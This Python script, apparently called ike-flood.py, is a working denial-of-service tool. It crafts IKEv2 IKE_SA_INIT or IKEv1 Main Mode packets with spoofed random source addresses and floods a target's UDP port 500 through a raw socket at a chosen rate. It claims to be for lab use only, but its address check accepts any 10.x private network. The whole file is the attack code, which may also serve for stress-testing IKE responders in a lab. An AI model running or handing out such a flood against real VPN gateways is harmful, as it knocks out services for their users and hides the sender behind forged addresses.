# Spoofed IKE_SA_INIT requests (RFC 7296 §1.2) from random sources in 10.200.0.0/16, at a fixed
# rate for a bounded time, through an IPPROTO_RAW socket (whole IPv4 packets as built here).
# Run inside a lab namespace only; every packet goes to the one lab address given.
#   python3 ike-flood.py DESTINATION RATE SECONDS [MAJOR]   (MAJOR 1: IKEv1 Main Mode message 1)
import os, socket, struct, sys, time

dst, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
ikev1 = len(sys.argv) > 4 and sys.argv[4] == "1"
if not dst.startswith(("203.0.113.", "198.51.100.", "192.0.2.", "10.")):
    sys.exit("ike-flood: %s is not a lab address" % dst)

def transform(last, ttype, tid, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs

def ikev2_init():
    # SA: aes128gcm16 (ENCR 20, key length 128), prfsha256 (PRF 5), x25519 (DH 31)
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 128)) + transform(False, 2, 5)
                  + transform(True, 4, 31))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal
    ke = struct.pack("!BBHHH", 40, 0, 8 + 32, 31, 0) + os.urandom(32)
    nonce = struct.pack("!BBH", 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body

def ikev1_main_mode_1():
    # SA (DOI 1, SIT 1), one proposal, one transform: AES-CBC-128, SHA2-256, PSK, MODP-2048
    attrs = struct.pack("!HHHHHHHHHH", 0x8001, 7, 0x800E, 128, 0x8002, 4, 0x8003, 1, 0x8004, 14)
    t = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    p = struct.pack("!BBHBBBB", 0, 0, 8 + len(t), 1, 1, 0, 1) + t
    sa = struct.pack("!BBHII", 0, 0, 12 + len(p), 1, 1) + p
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(sa)) + sa

packets = []
for i in range(4096):
    ike = ikev1_main_mode_1() if ikev1 else ikev2_init()
    udp = struct.pack("!HHHH", 1024 + (i % 60000), 500, 8 + len(ike), 0) + ike
    src = socket.inet_aton("10.200.%d.%d" % (i // 250 % 250 + 1, i % 250 + 1))
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, socket.inet_aton(dst))
    packets.append(ip + udp)

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
start = time.monotonic()
sent = 0
while True:
    elapsed = time.monotonic() - start
    if elapsed >= seconds:
        break
    due = int(elapsed * rate)
    while sent < due:
        try:
            s.sendto(packets[sent % len(packets)], (dst, 0))
        except OSError:
            pass
        sent += 1
    time.sleep(0.0005)
print("sent=%d seconds=%.2f" % (sent, time.monotonic() - start))
